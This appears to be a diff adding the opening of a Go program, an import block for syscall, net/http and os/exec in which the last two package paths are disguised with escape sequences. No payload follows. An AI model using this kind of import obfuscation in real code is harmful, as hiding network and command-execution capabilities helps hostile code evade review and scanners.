@@ -1,0 +1,6 @@
+package main
+import (
+	`syscall`
+	"net\x2fhttp"
+	"o\163/\u0065xec"
+)
